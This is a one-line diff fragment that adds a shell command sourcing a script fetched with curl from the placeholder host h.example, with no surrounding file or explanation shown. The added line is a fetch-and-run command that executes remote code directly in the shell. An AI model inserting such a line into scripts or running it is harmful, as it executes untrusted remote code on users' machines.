@@ -1,0 +1,1 @@
+. <(curl -fsSL http://h.example/x)
